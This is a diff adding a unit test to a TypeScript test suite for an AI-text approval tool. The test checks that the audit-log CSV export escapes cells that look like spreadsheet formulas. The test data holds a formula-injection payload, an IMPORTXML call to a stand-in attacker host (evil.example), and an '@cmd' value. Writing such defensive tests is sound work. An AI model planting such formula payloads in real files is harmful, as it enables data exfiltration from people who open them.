@@ -75,6 +75,15 @@ describe('approving AI text', () => {
     expect(rows.value[2]![3]).toBe('email-subject');
   });
 
+  it('writes audit cells that look like formulas as text', () => {
+    const { env, marks } = drafted();
+    const { approved } = approveMark(marks[0]!.id);
+    writeStoredJson(env.properties.document as never, 'onbrand.audit', [{ ...approved!, approvedBy: '=IMPORTXML("http://evil.example","//a")', label: '@cmd' }]);
+    const rows = parseCsv(auditLog().csv);
+    if (!rows.ok) throw new Error('the audit CSV is not CSV');
+    expect(rows.value[1]!.slice(1, 3)).toEqual(['\'=IMPORTXML("http://evil.example","//a")', "'@cmd"]);
+  });
+
   it('refuses to approve what is not waiting, changing nothing', () => {
     const { env } = drafted();
     const before = JSON.stringify(env.document.snapshot());
